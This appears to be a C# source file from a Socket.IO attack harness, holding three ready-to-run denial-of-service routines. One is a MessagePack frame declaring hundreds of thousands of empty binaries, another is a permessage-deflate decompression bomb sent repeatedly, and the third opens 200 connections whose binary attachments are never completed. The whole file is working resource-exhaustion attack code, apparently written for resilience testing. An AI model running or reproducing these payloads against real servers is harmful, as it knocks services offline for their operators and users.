using System.Buffers.Binary;
using System.Text;
using Attacks.Clients;

namespace Attacks.Table;

/// <summary>Attacks by MessagePack and by permessage-deflate.</summary>
internal static class BinaryAttacks
{
    private const int Length = 980_000;

    public static async Task<long> EmptyBinariesAsync(AttackRun run, int clients)
    {
        var frame = RawConnection.Frame(EmptyBinaries(), opcode: 2);
        byte[] connect = [0x82, 0xA4, .. "type"u8, 0, 0xA3, .. "nsp"u8, 0xA1, (byte)'/'];
        long sent = 0;
        for (var i = 0; i < clients; i++)
        {
            var connection = run.Keep(await RawConnection.OpenWebSocketAsync(run.Url));
            _ = connection.DrainAsync();
            await connection.SendAsync(RawConnection.Frame(connect, opcode: 2));
            await Task.Delay(20);
            await RawConnection.Quietly(() => connection.SendAsync(frame));
            sent += connection.Sent;
        }

        return sent;
    }

    public static async Task<long> InflatedEventsAsync(AttackRun run)
    {
        var text = "42[\"echo\",[" + string.Concat(Enumerable.Repeat("[],", 329_999)) + "[]]]";
        var frame = RawConnection.Frame(RawConnection.Deflate(Encoding.UTF8.GetBytes(text)), isDeflated: true);
        var connection = run.Keep(await RawConnection.OpenWebSocketAsync(run.Url, deflate: true));
        _ = connection.DrainAsync();
        await connection.SendAsync(RawConnection.Frame("40"));
        await Task.Delay(200);
        await RawConnection.Quietly(async () =>
        {
            for (var i = 0; i < 20; i++)
                await connection.SendAsync(frame);
        });
        await Task.Delay(3_000);
        return connection.Sent;
    }

    public static async Task<long> UnfinishedAsync(AttackRun run)
    {
        var attachment = RawConnection.Frame(RawConnection.Deflate(new byte[990_000]), opcode: 2, isDeflated: true);
        long sent = 0;
        for (var i = 0; i < 200; i++)
        {
            var connection = run.Keep(await RawConnection.OpenWebSocketAsync(run.Url, deflate: true));
            _ = connection.DrainAsync();
            await RawConnection.Quietly(async () =>
            {
                await connection.SendAsync(RawConnection.Frame("40"));
                await connection.SendAsync(RawConnection.Frame("452-[\"echo\",{\"_placeholder\":true,\"num\":0},{\"_placeholder\":true,\"num\":1}]"));
                await connection.SendAsync(attachment);
            });
            sent += connection.Sent;
        }

        return sent;
    }

    // {type: 2, nsp: "/", data: ["echo", [bin, bin, …]]}
    private static byte[] EmptyBinaries()
    {
        var count = new byte[4];
        BinaryPrimitives.WriteInt32BigEndian(count, Length / 2);
        return [0x83, 0xA4, .. "type"u8, 2, 0xA3, .. "nsp"u8, 0xA1, (byte)'/', 0xA4, .. "data"u8, 0x92, 0xA4, .. "echo"u8, 0xDD, .. count,
            .. Enumerable.Repeat<byte[]>([0xC4, 0], Length / 2).SelectMany(static empty => empty)];
    }
}
